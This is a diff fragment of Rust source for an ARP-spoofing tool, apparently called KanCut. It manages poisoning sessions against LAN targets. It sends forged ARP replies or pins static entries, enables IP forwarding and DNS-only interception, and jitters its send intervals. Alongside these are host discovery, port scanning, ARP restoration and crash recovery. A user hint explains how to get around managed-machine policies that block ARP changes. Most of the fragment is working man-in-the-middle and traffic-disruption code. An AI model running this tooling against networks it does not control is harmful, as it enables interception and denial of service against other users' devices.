+            }
+        }
+        if let Some(e) = &fatal_error {
+            eprintln!("Stopping {} sessions on {}: {}", targets.len(), interface_name, e);
+            break;
+        }
+        
+        // Store the packet counts under one lock per round, and send them to
+        // the UI at most once a second
+        let report_counts = last_count_report.elapsed() >= SESSION_UPDATE_INTERVAL;
+        if report_counts {
+            last_count_report = Instant::now();
+        }
+        if let Ok(mut sessions_guard) = sessions.lock() {
+            for target in &mut targets {
+                if let Some(session_info) = sessions_guard.get_mut(&target.session_id) {
+                    session_info.session.packets_sent = target.packet_count;
+                }
+                if report_counts && target.reported_packets != target.packet_count {
+                    target.reported_packets = target.packet_count;
+                    emit_session_event(&app, "session-updated", &sessions_guard, &target.session_id);
+                }
+            }
+        }
+        
+        // Wait before next round; a stopped session is picked up at the top
+        let interval_ms = interval_ms.unwrap_or(options.interval_ms);
+        let delay = Duration::from_millis(jittered_interval(interval_ms, options.jitter_percent, &mut rng));
+        let stop_flags: Vec<&Mutex<bool>> = targets.iter().map(|target| target.stop_flag.as_ref()).collect();
+        sleep_unless_stopped(&stop_flags, delay);
+    }
+    
+    for target in targets {
+        finish_spoof_target(target, &mut raw_sender, &interface_name, &options, fatal_error.clone(), &sessions, &app);
+    }
+}
+
+/// Restore a target's ARP entries and mark its session stopped. `fatal_error`
+/// is set when the session ends on its own rather than through `stop_spoofing`.
+fn finish_spoof_target(
+    mut target: SpoofTarget,
+    raw_sender: &mut Option<RawArpSender>,
+    interface_name: &str,
+    options: &SpoofingOptions,
+    fatal_error: Option<AppError>,
+    sessions: &Mutex<SessionTable>,
+    app: &AppHandle,
+) {
+    if fatal_error.is_some() {
+        if let Ok(mut should_stop) = target.stop_flag.lock() {
+            *should_stop = true;
+        }
+    }
+    
+    target.restore(raw_sender, interface_name, options.strategy);
+    match &fatal_error {
+        Some(error) => target.log(&format!("Stopped after {} packets: {}", target.packet_count, error)),
+        None => target.log(&format!("Stopped after {} packets, ARP entries restored", target.packet_count)),
+    }
+    
+    if options.intercept == InterceptMode::DnsOnly {
+        if let Err(e) = Platform::redirect_dns(interface_name, target.target_ip, false) {
+            eprintln!("Failed to remove DNS redirect for {}: {}", target.target_ip, e);
+        }
+    }
+    
+    // Mark session as inactive when stopping
+    let mut disable_forwarding = false;
+    if let Ok(mut sessions_guard) = sessions.lock() {
+        if let Some(session_info) = sessions_guard.get_mut(&target.session_id) {
+            session_info.session.is_active = false;
+            session_info.session.state = SessionState::Stopped;
+            session_info.session.stopped_at.get_or_insert_with(now_millis);
+            
+            // Nobody will call stop_spoofing for a session that ended on its own
+            if fatal_error.is_some() {
+                let enabled_forwarding = std::mem::take(&mut session_info.enabled_forwarding);
+                disable_forwarding = release_forwarding(&mut sessions_guard, enabled_forwarding);
+            }
+        }
+        persist_sessions(&sessions_guard);
+        emit_session_event(app, "session-stopped", &sessions_guard, &target.session_id);
+    }
+    
+    if disable_forwarding {
+        if let Err(e) = Platform::set_ip_forwarding(false) {
+            eprintln!("Failed to disable IP forwarding: {}", e);
+        }
+    }
+    
+    if let Some(error) = fatal_error {
+        let session_id = target.session_id.clone();
+        if let Err(e) = app.emit("session-error", SessionError { session_id, error }) {
+            eprintln!("Failed to emit session-error event: {}", e);
+        }
+    }
+}
+
+/// Longest a session sleeps between looks at its stop flag, so stopping takes
+/// effect promptly however long the spoofing interval is
+const STOP_POLL_INTERVAL: Duration = Duration::from_millis(100);
+
+/// Sleep for `duration`, waking early once any of `stop_flags` is set. Returns whether one was set.
+fn sleep_unless_stopped(stop_flags: &[&Mutex<bool>], duration: Duration) -> bool {
+    let deadline = Instant::now() + duration;
+    loop {
+        let stopped = stop_flags.iter()
+            .any(|stop_flag| stop_flag.lock().map(|should_stop| *should_stop).unwrap_or(false));
+        if stopped {
+            return true;
+        }
+        
+        let remaining = deadline.saturating_duration_since(Instant::now());
+        if remaining.is_zero() {
+            return false;
+        }
+        thread::sleep(remaining.min(STOP_POLL_INTERVAL));
+    }
+}
+
+/// `interval_ms` moved randomly by up to `jitter_percent` percent either way
+fn jittered_interval(interval_ms: u64, jitter_percent: u8, rng: &mut StdRng) -> u64 {
+    let spread = interval_ms * u64::from(jitter_percent) / 100;
+    if spread == 0 {
+        return interval_ms;
+    }
+    
+    rng.gen_range(interval_ms - spread..=interval_ms + spread)
+        .max(MIN_SPOOF_INTERVAL_MS)
+}
+
+/// How often a running session makes sure its interface is still there
+const INTERFACE_CHECK_INTERVAL: Duration = Duration::from_secs(5);
+
+/// Shortest gap between two `session-updated` events carrying a session's packet count
+const SESSION_UPDATE_INTERVAL: Duration = Duration::from_secs(1);
+
+/// Fail if the interface is gone, down, or now has a different MAC than `local_mac`
+fn check_interface(interface_name: &str, local_mac: &str) -> Result<(), AppError> {
+    let interfaces = get_interfaces()?;
+    let interface = interfaces.iter()
+        .find(|iface| iface.name == interface_name)
+        .ok_or_else(|| network_error(&format!("Interface '{}' is no longer available", interface_name), None))?;
+    
+    if !interface.is_up {
+        return Err(network_error(&format!("Interface '{}' lost its link", interface_name), None));
+    }
+    if normalize_mac(&interface.mac) != normalize_mac(local_mac) {
+        return Err(network_error(
+            &format!("Interface '{}' changed its MAC address", interface_name),
+            Some(&format!("{} -> {}", local_mac, interface.mac)),
+        ));
+    }
+    
+    Ok(())
+}
+
+fn get_interface_mac(interface_name: &str) -> Result<String, AppError> {
+    let interfaces = get_interfaces()?;
+    let interface = interfaces.iter()
+        .find(|iface| iface.name == interface_name)
+        .ok_or_else(|| interface_error(&format!("Interface '{}' not found", interface_name), None))?;
+    
+    Ok(interface.mac.clone())
+}
+
+/// How long `ping_host` waits for an echo reply
+const PING_TIMEOUT_MS: u32 = 1000;
+
+/// Wake a sleeping machine by broadcasting a Wake-on-LAN magic packet for
+/// `mac` to `broadcast_ip`, or to 255.255.255.255 when unset
+pub fn wake_on_lan(mac: String, broadcast_ip: Option<String>) -> Result<(), AppError> {
+    let mac_bytes = normalize_mac(&mac)
+        .and_then(|mac| arp_packet::parse_mac(&mac))
+        .ok_or_else(|| config_error("Invalid MAC address", Some(&mac)))?;
+    
+    let broadcast = match broadcast_ip {
+        Some(ip) => ip.trim().parse::<Ipv4Addr>()
+            .map_err(|e| config_error("Invalid broadcast IP", Some(&e.to_string())))?,
+        None => Ipv4Addr::BROADCAST,
+    };
+    
+    wol::send_magic_packet(mac_bytes, broadcast)
+        .map_err(|e| network_error("Failed to send Wake-on-LAN packet", Some(&e)))
+}
+
+/// How long `verify_devices` waits for each echo reply
+const VERIFY_PING_TIMEOUT_MS: u32 = 300;
+
+/// Ping every IPv4 device on up to `workers` threads and update its `online`
+/// flag, a quick recheck of cached results without rediscovering the network.
+/// Returns the number of devices that answered.
+pub fn verify_devices(devices: &mut [NetworkDevice], workers: usize) -> usize {
+    let addrs: Vec<Ipv4Addr> = devices.iter()
+        .filter_map(|device| device.ip.parse().ok())
+        .collect();
+    
+    let replies = Arc::new(Mutex::new(HashMap::new()));
+    let results = replies.clone();
+    run_worker_pool(addrs, workers, &ScanHandle::new(), move |addr| {
+        match Platform::ping(addr, VERIFY_PING_TIMEOUT_MS) {
+            Ok(rtt_ms) => {
+                if let Ok(mut results) = results.lock() {
+                    results.insert(addr, rtt_ms.is_some());
+                }
+            }
+            Err(e) => eprintln!("Failed to ping {}: {}", addr, e),
+        }
+    });
+    
+    let replies = replies.lock().map(|replies| replies.clone()).unwrap_or_default();
+    for device in devices.iter_mut() {
+        if let Some(online) = device.ip.parse().ok().and_then(|addr: Ipv4Addr| replies.get(&addr)) {
+            device.online = *online;
+        }
+    }
+    
+    devices.iter().filter(|device| device.online).count()
+}
+
+/// Send a single ICMP echo to `ip` and report whether it answered and how fast
+pub fn ping_host(ip: String) -> Result<PingResult, AppError> {
+    let addr = parse_host_ip(&ip, "IP address")?;
+    
+    match Platform::ping(addr, PING_TIMEOUT_MS) {
+        Ok(rtt_ms) => Ok(PingResult { reachable: rtt_ms.is_some(), rtt_ms }),
+        Err(e) => Err(network_error("Failed to send ICMP echo", Some(&e))),
+    }
+}
+
+/// Look up the name of one host outside of a scan: reverse DNS, then NetBIOS,
+/// then mDNS when the host is on the link of one of our interfaces
+pub fn resolve_host(ip: String) -> Result<Option<String>, AppError> {
+    let addr = parse_host_ip(&ip, "IP address")?;
+    
+    if let Some(hostname) = resolve_hostname(&addr.to_string(), None) {
+        hostname_cache::save();
+        return Ok(Some(hostname));
+    }
+    
+    // mDNS replies only reach us from the host's own link
+    let local_ip = get_interfaces()?
+        .iter()
+        .filter_map(|iface| get_interface_network(&iface.name, None).ok())
+        .find(|(_, network)| network.contains(addr))
+        .map(|(_, network)| network.ip());
+    let local_ip = match local_ip {
+        Some(local_ip) => local_ip,
+        None => return Ok(None),
+    };
+    
+    match mdns::discover_hostnames(local_ip, MDNS_TIMEOUT) {
+        Ok(names) => {
+            let hostname = names.get(&addr).cloned();
+            if let Some(hostname) = &hostname {
+                hostname_cache::record(&addr.to_string(), hostname);
+                hostname_cache::save();
+            }
+            Ok(hostname)
+        }
+        Err(e) => {
+            eprintln!("mDNS lookup for {} failed: {}", addr, e);
+            Ok(None)
+        }
+    }
+}
+
+/// Per-port connect timeout of the port scan run by `inspect_device`
+const INSPECT_PORT_TIMEOUT_MS: u64 = 200;
+
+/// Everything `inspect_device` learned about one host
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct DeviceDetails {
+    pub ip: String,
+    pub interface: String,
+    /// Read from the ARP cache, probing the host if it wasn't cached
+    pub mac: Option<String>,
+    pub hostname: Option<String>,
+    pub vendor: Option<String>,
+    /// Open ports among the default service ports
+    pub open_ports: Vec<u16>,
+    pub reachable: bool,
+    pub rtt_ms: Option<u32>,
+    pub device_type: Option<DeviceType>,
+}
+
+/// Look up a single known host without rescanning the network: its MAC,
+/// hostname (DNS, NetBIOS, then mDNS), vendor, open service ports and ping time
+pub fn inspect_device(ip: String, interface: String) -> Result<DeviceDetails, AppError> {
+    let addr = parse_host_ip(&ip, "IP address")?;
+    let ip = addr.to_string();
+    let (_, network) = get_interface_network(&interface, None)?;
+    if !network.contains(addr) {
+        return Err(config_error(
+            &format!("{} is not on the network {} of interface {}", ip, network, interface),
+            None,
+        ));
+    }
+    
+    // The lookups are independent and each may wait on timeouts, so run them side by side
+    let (mac, hostname, open_ports, ping) = thread::scope(|scope| {
+        let mac = scope.spawn(|| resolve_mac(&ip, &interface));
+        let hostname = scope.spawn(|| resolve_host(ip.clone()));
+        let open_ports = scope.spawn(|| scan_ports(ip.clone(), Vec::new(), INSPECT_PORT_TIMEOUT_MS));
+        let ping = ping_host(ip.clone());
+        (mac.join(), hostname.join(), open_ports.join(), ping)
+    });
+    
+    let mac = match mac {
+        Ok(Ok(mac)) => Some(mac),
+        Ok(Err(e)) => {
+            eprintln!("No MAC for {}: {}", ip, e);
+            None
+        }
+        Err(_) => None,
+    };
+    let hostname = hostname.ok().and_then(|hostname| hostname.ok()).flatten();
+    let open_ports = open_ports.ok().and_then(|ports| ports.ok()).unwrap_or_default();
+    let (reachable, rtt_ms) = match ping {
+        Ok(result) => (result.reachable, result.rtt_ms),
+        Err(e) => {
+            eprintln!("Failed to ping {}: {}", ip, e);
+            (false, None)
+        }
+    };
+    let vendor = mac.as_deref().and_then(get_vendor_from_mac);
+    
+    let is_gateway = get_default_gateway(&interface).map(|gateway| gateway == ip).unwrap_or(false);
+    let device_type = device_type::classify(&NetworkDevice {
+        ip: ip.clone(),
+        mac: mac.clone().unwrap_or_default(),
+        hostname: hostname.clone().unwrap_or_default(),
+        vendor: vendor.clone().unwrap_or_default(),
+        open_ports: open_ports.clone(),
+        conflict: false,
+        device_type: None,
+        label: None,
+        online: true,
+    }, is_gateway);
+    
+    Ok(DeviceDetails {
+        ip,
+        interface,
+        mac,
+        hostname,
+        vendor,
+        open_ports,
+        reachable,
+        rtt_ms,
+        device_type,
+    })
+}
+
+/// How long `resolve_mac` waits for the host to show up in the ARP cache
+const MAC_RESOLVE_TIMEOUT: Duration = Duration::from_secs(2);
+
+/// Resolve the real hardware address of `ip` as seen from `interface`.
+///
+/// Uses the ARP cache when it already has a usable entry, otherwise pings the
+/// host to trigger an ARP exchange and polls the cache for the reply. Entries
+/// pointing at our own MAC are left over from earlier spoofing and ignored.
+fn resolve_mac(ip: &str, interface: &str) -> Result<String, String> {
+    let addr: Ipv4Addr = ip.parse()
+        .map_err(|e| format!("Invalid IP address {}: {}", ip, e))?;
+    let local_mac = get_interface_mac(interface).map_err(|e| e.to_string())?;
+    
+    resolve_mac_excluding(addr, interface, &local_mac)
+}
+
+/// `resolve_mac` for callers that already know the interface's own MAC
+fn resolve_mac_excluding(addr: Ipv4Addr, interface: &str, local_mac: &str) -> Result<String, String> {
+    let local_mac = normalize_mac(local_mac);
+    let cached_mac = || lookup_arp_mac(addr).filter(|mac| normalize_mac(mac) != local_mac);
+    
+    if let Some(mac) = cached_mac() {
+        return Ok(mac);
+    }
+    
+    let deadline = Instant::now() + MAC_RESOLVE_TIMEOUT;
+    Platform::probe_host(&SystemRunner, addr, 500);
+    
+    while Instant::now() < deadline {
+        if let Some(mac) = cached_mac() {
+            return Ok(mac);
+        }
+        thread::sleep(Duration::from_millis(100));
+    }
+    
+    Err(format!("No ARP reply from {} on interface {}", addr, interface))
+}
+
+/// Look up the MAC currently cached for an IP in the local ARP table
+fn lookup_arp_mac(ip: Ipv4Addr) -> Option<String> {
+    let ip_str = ip.to_string();
+    read_arp_table().ok()?
+        .into_iter()
+        .find(|entry| entry.ip == ip_str && entry.mac != "00:00:00:00:00:00")
+        .map(|entry| entry.mac)
+}
+
+/// Send one spoofed ARP reply, using raw frames when a capture device and the
+/// target's MAC are available and the `arp` command path otherwise
+fn send_arp_spoof(
+    raw_sender: &mut Option<RawArpSender>,
+    interface_name: &str,
+    source_mac: &str,
+    spoof_ip: Ipv4Addr,
+    target_ip: Ipv4Addr,
+    target_mac: Option<&str>,
+) -> Result<(), AppError> {
+    if let (Some(sender), Some(target_mac)) = (raw_sender.as_mut(), target_mac) {
+        return sender.send_arp_reply(source_mac, spoof_ip, target_mac, target_ip)
+            .map_err(|e| spoofing_error("Failed to send ARP reply", Some(&e)));
+    }
+    
+    send_static_arp_spoof(&SystemRunner, interface_name, source_mac, target_ip)
+}
+
+/// A random locally administered unicast MAC, e.g. `02:xx:xx:xx:xx:xx`
+fn random_local_mac() -> String {
+    let random = Uuid::new_v4();
+    let mut bytes = [0u8; 6];
+    bytes.copy_from_slice(&random.as_bytes()[..6]);
+    // Set the locally administered bit, clear the multicast bit
+    bytes[0] = (bytes[0] & 0xfc) | 0x02;
+    format_mac(bytes)
+}
+
+/// Number of corrective ARP replies sent per direction when a session stops
+const ARP_RESTORE_ROUNDS: u32 = 3;
+
+/// Broadcast the gateway's real MAC so the whole segment drops the poisoned mapping
+fn restore_gateway_broadcast(raw_sender: &mut Option<RawArpSender>, gateway_ip: Ipv4Addr, gateway_mac: &str) {
+    if let Some(sender) = raw_sender.as_mut() {
+        for _ in 0..ARP_RESTORE_ROUNDS {
+            if let Err(e) = sender.send_arp_reply(gateway_mac, gateway_ip, arp_packet::BROADCAST_MAC, gateway_ip) {
+                eprintln!("Failed to broadcast the real MAC of gateway {}: {}", gateway_ip, e);
+                break;
+            }
+            thread::sleep(Duration::from_millis(100));
+        }
+    }
+}
+
+/// Undo the poisoning of a session: re-announce the real MACs to both sides
+/// and drop any static entries the command fallback added
+fn restore_arp_entries(
+    raw_sender: &mut Option<RawArpSender>,
+    interface_name: &str,
+    target_ip: Ipv4Addr,
+    target_mac: Option<&str>,
+    gateway_ip: Ipv4Addr,
+    gateway_mac: Option<&str>,
+) {
+    if let Some(sender) = raw_sender.as_mut() {
+        for _ in 0..ARP_RESTORE_ROUNDS {
+            // Tell the target where the gateway really is
+            if let (Some(gateway_mac), Some(target_mac)) = (gateway_mac, target_mac) {
+                if let Err(e) = sender.send_arp_reply(gateway_mac, gateway_ip, target_mac, target_ip) {
+                    eprintln!("Failed to restore ARP entry on target {}: {}", target_ip, e);
+                }
+                
+                // Tell the gateway where the target really is
+                if let Err(e) = sender.send_arp_reply(target_mac, target_ip, gateway_mac, gateway_ip) {
+                    eprintln!("Failed to restore ARP entry on gateway {}: {}", gateway_ip, e);
+                }
+            } else {
+                eprintln!("Cannot restore ARP entries for {}: original MACs unknown", target_ip);
+                break;
+            }
+            
+            thread::sleep(Duration::from_millis(100));
+        }
+    }
+    
+    // Remove the static entries added by send_static_arp_spoof
+    for ip in [target_ip, gateway_ip] {
+        if let Err(e) = Platform::delete_arp_entry(interface_name, ip) {
+            eprintln!("Failed to delete ARP entry for {}: {}", ip, e);
+        }
+    }
+}
+
+/// Fallback when raw frames can't be sent: pin the target to our MAC in the
+/// local ARP cache
+fn send_static_arp_spoof(
+    runner: &dyn CommandRunner,
+    interface_name: &str,
+    local_mac: &str,
+    target_ip: Ipv4Addr,
+) -> Result<(), AppError> {
+    let local_mac = arp_packet::parse_mac(local_mac.trim())
+        .ok_or_else(|| config_error("Invalid local MAC", Some(local_mac)))?;
+    
+    retry_until_permanent(
+        || Platform::set_static_arp(runner, interface_name, target_ip, local_mac),
+        is_access_denied,
+    )
+    .map_err(|e| {
+        if is_access_denied(&e) {
+            permission_error(
+                "The system refused to add a static ARP entry",
+                Some(&format!("{}. {}", e.trim(), STATIC_ARP_DENIED_HINT)),
+            )
+        } else {
+            spoofing_error("Failed to add static ARP entry", Some(&e))
+        }
+    })
+}
+
+/// Command output meaning the OS refused the change outright, as opposed to a
+/// transient failure. Matched case-insensitively.
+const ACCESS_DENIED_PATTERNS: &[&str] = &[
+    "access is denied",
+    "requires elevation",
+    "group policy",
+    "operation not permitted",
+    "permission denied",
+];
+
+/// Shown when static ARP entries are refused even though KanCut is elevated
+const STATIC_ARP_DENIED_HINT: &str = "Managed machines often block changes to the ARP cache by \
+    policy even for administrators. Install a packet capture driver so raw ARP frames can be \
+    sent instead, or use a machine you administer.";
+
+/// Whether a command error says the OS denied the operation
+fn is_access_denied(error: &str) -> bool {
+    let error = error.to_lowercase();
+    ACCESS_DENIED_PATTERNS.iter().any(|pattern| error.contains(pattern))
+}
+
+/// Attempts made by `retry_with_backoff` before giving up
+const COMMAND_RETRY_ATTEMPTS: u32 = 3;
+/// Delay before the first retry; doubled after each further failure
+const COMMAND_RETRY_BASE_DELAY: Duration = Duration::from_millis(50);
+
+/// Run `operation` until it succeeds, backing off exponentially between
+/// attempts, and return the last error once all attempts have failed.
+/// Meant for OS commands that fail transiently, e.g. while the ARP table is busy.
+fn retry_with_backoff<T, F>(operation: F) -> Result<T, String>
+where
+    F: FnMut() -> Result<T, String>,
+{
+    retry_until_permanent(operation, |_| false)
+}
+
+/// `retry_with_backoff`, but errors for which `is_permanent` holds are
+/// returned right away since retrying cannot fix them
+fn retry_until_permanent<T, F, P>(mut operation: F, is_permanent: P) -> Result<T, String>
+where
+    F: FnMut() -> Result<T, String>,
+    P: Fn(&str) -> bool,
+{
+    let mut delay = COMMAND_RETRY_BASE_DELAY;
+    let mut attempt = 1;
+    loop {
+        match operation() {
+            Ok(value) => return Ok(value),
+            Err(e) if is_permanent(&e) => return Err(e),
+            Err(e) if attempt >= COMMAND_RETRY_ATTEMPTS => {
+                return Err(format!("{} (after {} attempts)", e, attempt));
+            }
+            Err(_) => {
+                thread::sleep(delay);
+                delay *= 2;
+                attempt += 1;
+            }
+        }
+    }
+}
+
+/// Read the local ARP table, retrying transient failures
+fn read_arp_table() -> Result<Vec<ArpEntry>, String> {
+    retry_with_backoff(Platform::arp_table)
+}
+
+pub fn stop_spoofing(
+    session_id: String,
+    state: State<SpoofingSessions>,
+) -> Result<bool, AppError> {
+    let (disable_forwarding, spoof_threads) = {
+        let mut sessions = state.0.lock()
+            .map_err(|e| system_error("Failed to access spoofing sessions", Some(&e.to_string())))?;
+        
+        let session_info = sessions.get_mut(&session_id)
+            .ok_or_else(|| spoofing_error(&format!("Session {} not found", session_id), None))?;
+        
+        // Set stop flag
+        if let Ok(mut stop_flag) = session_info.stop_flag.lock() {
+            *stop_flag = true;
+        }
+        
+        // Mark session as inactive
+        session_info.session.is_active = false;
+        session_info.session.state = SessionState::Stopped;
+        session_info.session.stopped_at.get_or_insert_with(now_millis);
+        
+        // The monitor thread closes the capture file on its way out
+        let spoof_threads = vec![session_info.take_threads()];
+        let enabled_forwarding = std::mem::take(&mut session_info.enabled_forwarding);
+        let disable_forwarding = release_forwarding(&mut sessions, enabled_forwarding);
+        persist_sessions(&sessions);
+        (disable_forwarding, spoof_threads)
+    };
+    
+    // The thread restores the ARP entries on its way out and needs the sessions
+    // lock to do so, hence joining only after it was released
+    join_spoof_threads(spoof_threads);
+    
+    if disable_forwarding {
+        if let Err(e) = Platform::set_ip_forwarding(false) {
+            eprintln!("Failed to disable IP forwarding: {}", e);
+        }
+    }
+    
+    Ok(true)
+}
+
+/// Stop every session that is still running and return how many were stopped.
+/// Each session thread restores its target's ARP entries as it exits.
+pub fn stop_all_sessions(state: State<SpoofingSessions>) -> Result<usize, AppError> {
+    let (stopped, disable_forwarding, spoof_threads) = {
+        let mut sessions = state.0.lock()
+            .map_err(|e| system_error("Failed to access spoofing sessions", Some(&e.to_string())))?;
+        
+        let mut stopped = 0;
+        let mut disable_forwarding = false;
+        let mut spoof_threads = Vec::new();
+        
+        for session_info in sessions.values_mut() {
+            if session_info.session.state == SessionState::Stopped {
+                continue;
+            }
+            
+            if let Ok(mut stop_flag) = session_info.stop_flag.lock() {
+                *stop_flag = true;
+            }
+            
+            session_info.session.is_active = false;
+            session_info.session.state = SessionState::Stopped;
+            session_info.session.stopped_at.get_or_insert_with(now_millis);
+            
+            // No session is left to inherit forwarding, so whoever enabled it turns it off
+            disable_forwarding |= std::mem::take(&mut session_info.enabled_forwarding);
+            spoof_threads.push(session_info.take_threads());
+            stopped += 1;
+        }
+        
+        persist_sessions(&sessions);
+        (stopped, disable_forwarding, spoof_threads)
+    };
+    
+    join_spoof_threads(spoof_threads);
+    
+    if disable_forwarding {
+        if let Err(e) = Platform::set_ip_forwarding(false) {
+            eprintln!("Failed to disable IP forwarding: {}", e);
+        }
+    }
+    
+    Ok(stopped)
+}
+
+/// Wait for stopped sessions to finish restoring their ARP entries and for
+/// their traffic monitors to exit
+fn join_spoof_threads(threads: impl IntoIterator<Item = SessionThreads>) {
+    for (spoof_done, monitor_thread) in threads {
+        if let Some(spoof_done) = spoof_done {
+            // Nothing is ever sent; the spoofing thread disconnects when done
+            let _ = spoof_done.recv();
+        }
+        if let Some(thread) = monitor_thread {
+            if thread.join().is_err() {
+                eprintln!("A traffic monitor thread panicked while stopping");
+            }
+        }
+    }
+}
+
+/// Temporarily stop poisoning a session without tearing it down.
+/// The session thread restores the target's ARP entries while paused.
+pub fn pause_spoofing(
+    session_id: String,
+    state: State<SpoofingSessions>,
+) -> Result<bool, AppError> {
+    set_session_state(&session_id, SessionState::Paused, &state)
+}
+
+/// Resume poisoning a paused session
+pub fn resume_spoofing(
+    session_id: String,
+    state: State<SpoofingSessions>,
+) -> Result<bool, AppError> {
+    set_session_state(&session_id, SessionState::Active, &state)
+}
+
+fn set_session_state(
+    session_id: &str,
+    new_state: SessionState,
+    state: &SpoofingSessions,
+) -> Result<bool, AppError> {
+    let mut sessions = state.0.lock()
+        .map_err(|e| system_error("Failed to access spoofing sessions", Some(&e.to_string())))?;
+    
+    let session_info = sessions.get_mut(session_id)
+        .ok_or_else(|| spoofing_error(&format!("Session {} not found", session_id), None))?;
+    
+    if session_info.session.state == SessionState::Stopped {
+        return Err(spoofing_error(&format!("Session {} has already been stopped", session_id), None));
+    }
+    
+    let changed = session_info.session.state != new_state;
+    session_info.session.state = new_state;
+    persist_sessions(&sessions);
+    
+    Ok(changed)
+}
+
+/// Decide whether IP forwarding should be turned off after a session that
+/// `enabled_forwarding` stops. If another forwarding session is still active
+/// it inherits the responsibility instead.
+fn release_forwarding(
+    sessions: &mut HashMap<String, SpoofingSessionInfo>,
+    enabled_forwarding: bool,
+) -> bool {
+    if !enabled_forwarding {
+        return false;
+    }
+    
+    match sessions.values_mut().find(|info| info.session.is_active && info.session.forwarding) {
+        Some(heir) => {
+            heir.enabled_forwarding = true;
+            false
+        }
+        None => true,
+    }
+}
+
+static SESSIONS_FILE: &str = "sessions.json";
+static RECOVERED_SESSIONS_FILE: &str = "recovered_sessions.json";
+
+/// Write the serializable part of every session to disk.
+///
+/// Called on lifecycle changes (start/stop) rather than on every packet so a
+/// crash leaves a record of which targets may still be poisoned.
+fn persist_sessions(sessions: &HashMap<String, SpoofingSessionInfo>) {
+    let snapshot: HashMap<&String, &SpoofingSession> = sessions.iter()
+        .map(|(id, info)| (id, &info.session))
+        .collect();
+    
+    if let Err(e) = storage::save_json(SESSIONS_FILE, &snapshot) {
+        eprintln!("Failed to persist spoofing sessions: {}", e);
+    }
+}
+
+/// Recover sessions left running by a previous run of the app.
+///
+/// Sessions that were still active are marked inactive and moved to the
+/// recovered list, where they stay until `restore_recovered_sessions` undoes
+/// their ARP poisoning. Call once at startup before any new session starts.
+pub fn recover_sessions() -> Result<Vec<SpoofingSession>, AppError> {
+    let previous: HashMap<String, SpoofingSession> = storage::load_json(SESSIONS_FILE)
+        .map_err(|e| system_error("Failed to load saved sessions", Some(&e)))?
+        .unwrap_or_default();
+    
+    let mut recovered = get_recovered_sessions()?;
+    for mut session in previous.into_values().filter(|session| session.is_active) {
+        session.is_active = false;
+        if !recovered.iter().any(|existing| existing.id == session.id) {
+            recovered.push(session);
+        }
+    }
+    
+    if !recovered.is_empty() {
+        storage::save_json(RECOVERED_SESSIONS_FILE, &recovered)
+            .map_err(|e| system_error("Failed to save recovered sessions", Some(&e)))?;
+    }
+    storage::remove(SESSIONS_FILE)
+        .map_err(|e| system_error("Failed to clear saved sessions", Some(&e)))?;
+    
+    Ok(recovered)
+}
+
+/// Sessions recovered from a previous run whose ARP entries haven't been restored yet
+pub fn get_recovered_sessions() -> Result<Vec<SpoofingSession>, AppError> {
+    Ok(storage::load_json(RECOVERED_SESSIONS_FILE)
+        .map_err(|e| system_error("Failed to load recovered sessions", Some(&e)))?
+        .unwrap_or_default())
+}
+
+/// Undo the ARP poisoning of every recovered session and forget them.
+/// Returns the number of sessions processed.
+pub fn restore_recovered_sessions() -> Result<usize, AppError> {
+    let recovered = get_recovered_sessions()?;
+    
+    for session in &recovered {
+        if let Err(e) = restore_recovered_session(session) {
+            eprintln!("Failed to restore ARP entries for session {}: {}", session.id, e);
+        }
+    }
+    
+    storage::remove(RECOVERED_SESSIONS_FILE)
+        .map_err(|e| system_error("Failed to clear recovered sessions", Some(&e)))?;
+    
+    Ok(recovered.len())
+}
+
+fn restore_recovered_session(session: &SpoofingSession) -> Result<(), String> {
+    let target_ip: Ipv4Addr = session.target_ip.parse()
+        .map_err(|e| format!("Invalid target IP: {}", e))?;
+    let gateway_ips = session.gateways().into_iter()
+        .map(|ip| ip.parse::<Ipv4Addr>().map_err(|e| format!("Invalid gateway IP: {}", e)))
+        .collect::<Result<Vec<_>, _>>()?;
+    
+    let local_mac = get_interface_mac(&session.interface).ok();
+    let mut raw_sender = local_mac.as_deref().and_then(|mac| RawArpSender::open(mac).ok());
+    
+    // Our own cache may still hold the spoofed mapping to our MAC
+    let real_mac = |ip: Ipv4Addr| {
+        lookup_arp_mac(ip).filter(|mac| Some(mac.as_str()) != local_mac.as_deref())
+    };
+    // Fall back to what the session learned when it started
+    let target_mac = real_mac(target_ip).or_else(|| session.target_mac.clone());
+    
+    for (index, gateway_ip) in gateway_ips.into_iter().enumerate() {
+        let gateway_mac = real_mac(gateway_ip)
+            .or_else(|| if index == 0 { session.gateway_mac.clone() } else { None });
+        restore_arp_entries(
+            &mut raw_sender,
+            &session.interface,
+            target_ip,
+            target_mac.as_deref(),
+            gateway_ip,
+            gateway_mac.as_deref(),
+        );
+    }
+    
+    if session.intercept == InterceptMode::DnsOnly {
+        Platform::redirect_dns(&session.interface, target_ip, false)?;
+    }
+    
+    Ok(())
+}
+
+/// Order of the sessions in a `SessionPage`
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum SessionSort {
+    /// Numeric IPv4 order of the target
+    #[default]
+    TargetIp,
+    /// Most packets sent first
+    PacketsSent,
+    /// Longest running first
+    Uptime,
+}
+
+/// Sorting and paging for `get_active_sessions`
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SessionQuery {
+    pub sort_by: SessionSort,
+    /// Maximum number of sessions returned; all remaining ones if unset
+    pub limit: Option<usize>,
+    /// Number of sorted sessions skipped before the page starts
+    pub offset: usize,
+}
+
+/// One page of sorted sessions
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SessionPage {
+    pub sessions: Vec<SpoofingSession>,
+    /// Number of sessions across all pages
+    pub total: usize,
+}
+
+/// What `get_active_sessions` returned: every session in no particular order,
+/// or a page when a query was given
+#[derive(Debug, Clone, Serialize)]
+#[serde(untagged)]
+pub enum ActiveSessions {
+    All(Vec<SpoofingSession>),
+    Page(SessionPage),
+}
+
+pub fn get_active_sessions(
+    query: Option<SessionQuery>,
+    state: State<SpoofingSessions>,
+) -> Result<ActiveSessions, AppError> {
+    let sessions = state.0.lock()
+        .map_err(|e| system_error("Failed to access spoofing sessions", Some(&e.to_string())))?;
+    let mut active_sessions = Vec::new();
+    let now = now_millis();
+    
+    for session_info in sessions.values() {
+        active_sessions.push(session_snapshot(session_info, now));
+    }
+    
+    let query = match query {
+        Some(query) => query,
+        None => return Ok(ActiveSessions::All(active_sessions)),
+    };
+    
+    sort_sessions(&mut active_sessions, query.sort_by);
+    let total = active_sessions.len();
+    let sessions = active_sessions
+        .into_iter()
+        .skip(query.offset)
